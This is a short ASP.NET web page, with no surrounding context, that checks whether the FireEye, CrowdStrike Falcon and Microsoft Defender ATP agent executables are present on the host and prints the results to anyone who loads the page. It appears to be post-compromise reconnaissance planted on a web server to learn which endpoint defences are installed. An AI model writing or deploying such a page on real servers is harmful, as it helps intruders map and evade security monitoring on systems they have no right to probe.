<%@ Page Language="C#" %>
<%
string[] agents = { @"C:\Program Files\FireEye\xagt\xagt.exe", @"C:\Program Files\CrowdStrike\CSFalconService.exe", @"C:\Program Files\Windows Defender Advanced Threat Protection\MsSense.exe" };
foreach (string a in agents) Response.Write(a + ":" + System.IO.File.Exists(a) + "<br>");
%>
